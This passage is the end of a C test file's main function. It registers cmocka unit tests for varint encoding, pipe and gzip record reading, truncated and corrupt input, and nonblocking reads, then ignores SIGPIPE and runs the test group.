		cmocka_unit_test(test_varint_encode),
		cmocka_unit_test(test_varint_decode_edges),
		cmocka_unit_test(test_pipe_one_byte_at_a_time),
		cmocka_unit_test(test_pipe_odd_chunks),
		cmocka_unit_test(test_plain_file),
		cmocka_unit_test(test_gzip_file),
		cmocka_unit_test(test_gzip_members),
		cmocka_unit_test(test_truncated_then_completed),
		cmocka_unit_test(test_truncated_gzip),
		cmocka_unit_test(test_corrupt_length),
		cmocka_unit_test(test_frame_max),
		cmocka_unit_test(test_nonblocking),
		cmocka_unit_test(test_empty_and_missing),
		cmocka_unit_test(test_large_record_in_pieces),
	};

	/* A writer child that outlives a failed test must not kill us with SIGPIPE instead. */
	signal(SIGPIPE, SIG_IGN);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
